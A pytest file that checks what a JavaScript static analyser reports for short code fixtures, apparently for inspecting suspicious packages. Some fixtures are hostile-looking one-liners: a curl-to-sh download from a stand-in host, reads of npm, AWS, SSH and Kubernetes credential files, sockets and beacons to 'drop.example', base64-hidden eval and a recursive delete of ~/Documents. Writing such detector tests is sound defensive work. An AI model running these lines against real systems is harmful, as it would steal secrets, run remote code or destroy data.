"""Which facts a line is: what it reaches, reads, writes, starts, decodes and loads."""

from __future__ import annotations

import base64

import pytest

from app.core.specimen import FactId
from tests.worker.inspection.facts.told_javascript import facts, read

BLOB = base64.b64encode(bytes(number * 7 % 251 for number in range(600))).decode()

NETWORK = {
    "an address": (
        "require('https').get('https://files.example/x', r => {});",
        ["1 host files.example", "1 network https.get -> files.example"],
    ),
    "options": (
        "const http = require('http');\nhttp.request({ hostname: 'files.example', port: 80 }).end();",
        ["2 host files.example", "2 network http.request -> files.example"],
    ),
    "options that are filled later": (
        "const o = {}; o.host = 'files.example';\nrequire('https').request(o);",
        ["2 host files.example", "2 network https.request -> files.example"],
    ),
    "an address in pieces": (
        "const host = 'files' + '.example';\nfetch(`https://${host}/x?${q}`);",
        ["2 host files.example", "2 network fetch -> files.example"],
    ),
    "an address built up": (
        "let u = 'https://'; u += 'files'; u += '.example/';\nfetch(u);",
        ["2 host files.example", "2 network fetch -> files.example"],
    ),
    "an address from a function": (
        "function get(url) {\n  return fetch(url); }\nget('https://files.example/a'); get('https://cdn.example/b');",
        ["2 network fetch -> files.example, cdn.example", "3 host cdn.example", "3 host files.example"],
    ),
    "an address that base64 hides": (
        f"fetch(atob('{base64.b64encode(b'https://drop.example/x').decode()}'));",
        ["1 decode atob", "1 host drop.example", "1 network fetch -> drop.example <- decoded 1 atob"],
    ),
    "a part of the name that is not known": (
        "require('dns').lookup(hex + '.drop.example', cb);",
        ["1 host drop.example", "1 network dns.lookup -> drop.example"],
    ),
    "a port and a host": (
        "const net = require('net');\nnet.connect(4444, 'drop.example');",
        ["2 host drop.example", "2 network net.connect -> drop.example"],
    ),
    "a socket that is made first": (
        "const net = require('net'); const s = new net.Socket();\ns.connect(4444, 'drop.example');",
        ["2 host drop.example", "2 network net.Socket.connect -> drop.example"],
    ),
    "an address of a cloud as one number": (
        "fetch('http://2852039166/latest/meta-data/');",
        ["1 host 169.254.169.254", "1 network fetch -> 169.254.169.254"],
    ),
    "clients": (
        "import axios from 'axios'; import got from 'got';\naxios.post(u, d);\ngot(u);\naxios({ url: 'https://files.example/' });",
        ["2 network axios.post", "3 network got", "4 host files.example", "4 network axios -> files.example"],
    ),
    "a client with defaults": (
        "const api = require('axios').create({ baseURL: u });\napi.get('/x');",
        ["2 network axios.get"],
    ),
    "sockets of the browser": (
        "const s = new WebSocket('wss://live.example/');\nconst x = new XMLHttpRequest(); x.open('GET', 'https://files.example/');",
        [
            "1 host live.example",
            "1 network WebSocket -> live.example",
            "2 host files.example",
            "2 network XMLHttpRequest.open -> files.example",
        ],
    ),
    "servers": ("require('http').createServer(app).listen(80);", ["1 network http.createServer"]),
    "a constant that some other file may use": (
        "module.exports = { hook: 'https://hooks.example/T1' };",
        ["1 host hooks.example"],
    ),
    "the metadata service anywhere": (
        "const base = 'curl 169.254.169.254/latest';",
        ["1 host 169.254.169.254"],
    ),
    "an address that is told": (
        "console.log('https://docs.example/help'); throw new Error('https://docs.example/');",
        [],
    ),
    "a name space": ("document.createElementNS('http://www.w3.org/2000/svg', 'svg');", []),
    "code from elsewhere": (
        "import x from 'https://files.example/x.js';",
        [
            "1 dynamic-code import <- download 1 import",
            "1 host files.example",
            "1 network import -> files.example",
        ],
    ),
}

PROCESS = {
    "a command line": (
        "require('child_process').execSync('curl -s https://drop.example/i.sh | sh');",
        [
            "1 host drop.example",
            "1 network curl -> drop.example",
            "1 process child_process.execSync -> drop.example",
            "1 process sh -> drop.example <- download 1 curl",
        ],
    ),
    "a program with arguments": (
        "const { spawn } = require('child_process');\nspawn('sh', ['-c', 'cat ~/.npmrc']);",
        ["2 credential-file ~/.npmrc", "2 process child_process.spawn"],
    ),
    "code for an interpreter": (
        "require('child_process').exec('node -e \"eval(x)\"');",
        ["1 dynamic-code eval", "1 process child_process.exec"],
    ),
    "execa": (
        "import { execa, $ } from 'execa';\nawait execa('ls');\nawait $`ls ${x}`;",
        ["2 process execa.execa", "3 process execa.$"],
    ),
    "a package that is called itself": (
        "const spawn = require('cross-spawn');\nspawn.sync('ls');",
        ["2 process cross-spawn.sync"],
    ),
    "shelljs": ("require('shelljs/global');\nexec('ls');", ["2 process shelljs/global.exec"]),
    "Bun": ("Bun.spawn(['ls', '-l']);", ["1 process Bun.spawn"]),
    "a command that only its own environment flows into": (
        "const cp = require('child_process');\ncp.spawn('ls', [], { env: process.env });\ncp.spawn('ls', { env: { ...process.env, A: '1' } });",
        ["2 process child_process.spawn", "3 process child_process.spawn"],
    ),
    "an environment that is made first": (
        "const cp = require('child_process'); const env = Object.assign({}, process.env, { A: 1 });\ncp.execFileSync('ls', [], { env });",
        ["2 process child_process.execFileSync"],
    ),
}

FILES = {
    "an own file": (
        "const fs = require('fs'), path = require('path');\nfs.readFileSync(path.join(__dirname, '..', 'package.json'));",
        ["2 file-read __dirname/../package.json"],
    ),
    "an own file of a module": (
        "import fs from 'fs';\nfs.readFileSync(new URL('./data.txt', import.meta.url));",
        ["2 file-read __dirname/data.txt"],
    ),
    "a path that is not known": (
        "const { readFile } = require('fs/promises');\nreadFile(p);",
        ["2 file-read fs.promises.readFile"],
    ),
    "credentials at home": (
        "const fs = require('fs'), os = require('os');\nfs.readFileSync(os.homedir() + '/.npmrc');",
        ["2 credential-file ~/.npmrc", "2 file-read ~/.npmrc"],
    ),
    "credentials below a variable": (
        "import { readFile } from 'node:fs/promises'; import { join } from 'node:path';\nawait readFile(join(process.env.HOME, '.aws', 'credentials'));",
        ["2 credential-file ~/.aws/credentials", "2 environment HOME", "2 file-read ~/.aws/credentials"],
    ),
    "credentials below something that is not known": (
        "require('fs').readFile(`${base}/.ssh/id_rsa`, cb);",
        ["1 credential-file …/.ssh/id_rsa", "1 file-read …/.ssh/id_rsa"],
    ),
    "a list of credentials": (
        "const fs = require('fs'), home = require('os').homedir();\n['.npmrc', '.pypirc'].forEach(f => {\n  fs.readFileSync(`${home}/${f}`); });",
        [
            "3 credential-file ~/.npmrc",
            "3 credential-file ~/.pypirc",
            "3 file-read ~/.npmrc",
            "3 file-read ~/.pypirc",
        ],
    ),
    "a list of credentials in a loop over objects": (
        "const fs = require('fs');\nfor (const { path } of [{ path: '~/.netrc' }, { path: '/tmp/x' }])\n  fs.createReadStream(path);",
        ["3 credential-file ~/.netrc", "3 file-read /tmp/x", "3 file-read ~/.netrc"],
    ),
    "a directory of keys": (
        "require('fs').readdirSync(require('os').homedir() + '/.ssh');",
        ["1 credential-file ~/.ssh", "1 file-read ~/.ssh"],
    ),
    "credentials that are copied": (
        "require('fs-extra').copySync('/root/.kube/config', '/tmp/k');",
        [
            "1 credential-file /root/.kube/config",
            "1 file-read /root/.kube/config",
            "1 file-write /tmp/k <- credential-file 1 /root/.kube/config",
        ],
    ),
    "a package that opens files": (
        "const load = require('load-json-thing').load;\nload(require('os').homedir() + '/.docker/config.json');",
        ["2 credential-file ~/.docker/config.json"],
    ),
    "a write": ("require('fs').writeFileSync('/etc/cron.d/x', data);", ["1 file-write /etc/cron.d/x"]),
    "an open for writing": (
        "const fs = require('fs');\nfs.openSync('/tmp/x', 'w');\nfs.openSync('/tmp/y');",
        ["2 file-write /tmp/x", "3 file-read /tmp/y"],
    ),
    "a deletion": (
        "require('fs').rmSync(require('os').homedir() + '/Documents', { recursive: true });\nrequire('rimraf').sync(x);",
        ["1 file-write fs.rmSync ~/Documents", "1 wipe deletes ~/Documents", "2 file-write rimraf.sync"],
    ),
}

ENVIRONMENT = {
    "by name": ("process.env.NPM_TOKEN; process.env['CI'];", ["1 environment CI", "1 environment NPM_TOKEN"]),
    "by a name in pieces": ("process.env['NPM_' + 'TOKEN'];", ["1 environment NPM_TOKEN"]),
    "by a name that is handed over": (
        "const get = name => process.env[name];\nget('GH_TOKEN');",
        ["1 environment GH_TOKEN"],
    ),
    "by a name that nobody knows": (
        "const get = name => process.env[name]; module.exports = get;",
        ["1 environment …"],
    ),
    "under another name": ("const e = process.env;\ne.NPM_TOKEN;", ["2 environment NPM_TOKEN"]),
    "by destructuring": ("const { NPM_TOKEN, CI: ci } = process.env;", ["1 environment CI", "1 environment NPM_TOKEN"]),
    "by destructuring process": ("const { env: { NPM_TOKEN } } = process;", ["1 environment NPM_TOKEN"]),
    "by destructuring a parameter": (
        "function f({ TOKEN } = process.env) {}\nf();",
        ["1 environment TOKEN"],
    ),
    "imported": ("import { env } from 'node:process';\nenv.NPM_TOKEN;", ["2 environment NPM_TOKEN"]),
    "through a computed member": ("const e = process['e' + 'nv'];\ne['NPM_TOKEN'];", ["2 environment NPM_TOKEN"]),
    "through a parameter": ("function f(env) {\n  return env.TOKEN; }\nf(process.env);", ["2 environment TOKEN"]),
    "as a whole, serialised": ("JSON.stringify(process.env);", ["1 environment *"]),
    "as a whole, spread": ("const all = { ...process.env };", ["1 environment *"]),
    "as a whole, what is left": ("const { PATH, ...rest } = process.env;", ["1 environment *", "1 environment PATH"]),
    "as a whole, handed to a stranger": ("require('x').send(process.env);", ["1 environment *"]),
    "as a whole, kept": ("report({ data: process.env });", ["1 environment *"]),
    "Deno and Bun": ("Deno.env.get('TOKEN'); Bun.env.KEY;", ["1 environment KEY", "1 environment TOKEN"]),
    "asked for": ("if (process.env && process.env.CI) {}", ["1 environment CI"]),
    "set": ("process.env.NODE_ENV = 'test'; delete process.env.DEBUG;", []),
    "keys that are looked through": (
        "Object.keys(process.env).filter(k => /^debug_/i.test(k));",
        [],
    ),
}

REST = {
    "base64": (
        "Buffer.from(x, 'base64'); new Buffer(y, 'hex'); Buffer.from('text');",
        ["1 decode Buffer.from(base64)", "1 decode Buffer.from(hex)"],
    ),
    "zlib": ("require('zlib').gunzipSync(x);", ["1 decode zlib.gunzipSync"]),
    "native modules": (
        "process.dlopen(module, p); require('./build/x.node'); require('bindings')('y');",
        ["1 native-code bindings", "1 native-code process.dlopen", "1 native-code x.node"],
    ),
    "bindings of Node.js": (
        "process.binding('spawn_sync').spawn(options);",
        ["1 native-code process.binding", "1 process process.binding.spawn_sync.spawn"],
    ),
    "a module that eval loads": (
        "eval(\"require('child_process')\").exec(cmd);",
        ["1 dynamic-code eval", "1 process child_process.exec"],
    ),
    "code in a name that starts empty": (
        "let code = ''; for (const c of text) code = c + code; eval(code);",
        ["1 dynamic-code eval"],
    ),
    "eval, bound to nothing": ("const f = globalThis[`ev${'al'}`].bind(null); f(x);", ["1 dynamic-code eval"]),
    "eval, picked by a pattern": ("var { eval: e } = globalThis; e(x);", ["1 dynamic-code eval"]),
    "eval, picked by a computed key": ("var { ['ev' + 'al']: e } = globalThis; e(x);", ["1 dynamic-code eval"]),
    "eval, picked by a function": ("const e = Reflect.get(globalThis, 'ev' + 'al'); e(x);", ["1 dynamic-code eval"]),
    "a navigator under another name": (
        "const c = window.navigator; c.sendBeacon('https://drop.example', x);",
        ["1 host drop.example", "1 network navigator.sendBeacon -> drop.example"],
    ),
    "names of consequence that nobody uses": (
        "const process = (binding) => binding.text; // eval(x)\nconst text = '\\\\u0065val';",
        [],
    ),
    "no code": ("eval(''); new Function('');", []),
    "a data address as a module": (
        "import('data:text/javascript,require(%22child_process%22)'); import('data:text/javascript,eval(x)');",
        ["1 decode data:", "1 dynamic-code eval", "1 dynamic-code import <- decoded 1 data:"],
    ),
    "what constant code does": (
        "eval(\"require('child_process').exec('id')\");",
        ["1 dynamic-code eval", "1 process child_process.exec"],
    ),
    "what decoded code does": (
        f"eval(atob('{base64.b64encode(b'fetch(`https://drop.example`)').decode()}'));",
        [
            "1 decode atob",
            "1 dynamic-code eval <- decoded 1 atob",
            "1 host drop.example",
            "1 network fetch -> drop.example",
        ],
    ),
    "long base64": (f"const b = '{BLOB}';", ["1 encoded-data base64, 800 characters"]),
    "long hexadecimal": (f"const b = '{'0f3d9a7c' * 100}';", ["1 encoded-data hexadecimal, 800 characters"]),
    "many character codes": ("const b = [" + "104,\n" * 600 + "];", ["1 encoded-data character codes, 600 numbers"]),
    "escaped letters": (
        "const a = '" + "".join(f"\\x{ord(letter):02x}" for letter in "child_process and more") + "';",
        ["1 encoded-data escaped letters, 88 characters"],
    ),
    "hexadecimal names": (
        "".join(f"var _0x{number:04x}ab = {number};\n" for number in range(20)),
        ["1 encoded-data hexadecimal names"],
    ),
    "minified code": ("function f(a,b){return a+b};" * 60, ["1 minified minified"]),
    "long prose": (f"const text = '{'all work and no play ' * 80}';\n" * 2, ["1 minified minified"]),
}

EVERYTHING = NETWORK | PROCESS | FILES | ENVIRONMENT | REST


@pytest.mark.parametrize(("source", "expected"), EVERYTHING.values(), ids=EVERYTHING.keys())
def test_a_line_is_these_facts(source: str, expected: list[str]) -> None:
    assert facts(source) == expected


def test_files_that_are_loaded_or_started_are_named_from_the_root_of_the_archive() -> None:
    found = read("""
        import './a.js'; export * from '../b'; const c = require('./c'); require(__dirname + '/d');
        import('./e.mjs'); require.resolve('./f'); require('lodash'); require('../../outside');
        const cp = require('child_process'); cp.fork(require('path').join(__dirname, 'g.js')); cp.exec('node scripts/h.js');
        new (require('worker_threads').Worker)(new URL('./i.js', import.meta.url)); cp.spawn(process.execPath, ['j.js']);
    """)
    assert found.loads == ("lib/a.js", "b", "lib/c", "lib/d", "lib/e.mjs", "lib/f")
    assert found.runs == ("lib/g.js", "scripts/h.js", "lib/i.js", "j.js")


def test_evidence_is_the_line_and_in_a_long_line_what_stands_around_the_call() -> None:
    found = read(f"eval(a); // see above\n{'x();' * 200} eval(b); {'y();' * 200}").facts
    short, long = (fact for fact in found if fact.id is FactId.DYNAMIC_CODE)
    assert short.evidence == "eval(a); // see above"
    assert long.evidence.startswith("… ();x();")
    assert " eval(b); y();" in long.evidence
    assert len(long.evidence) == 200
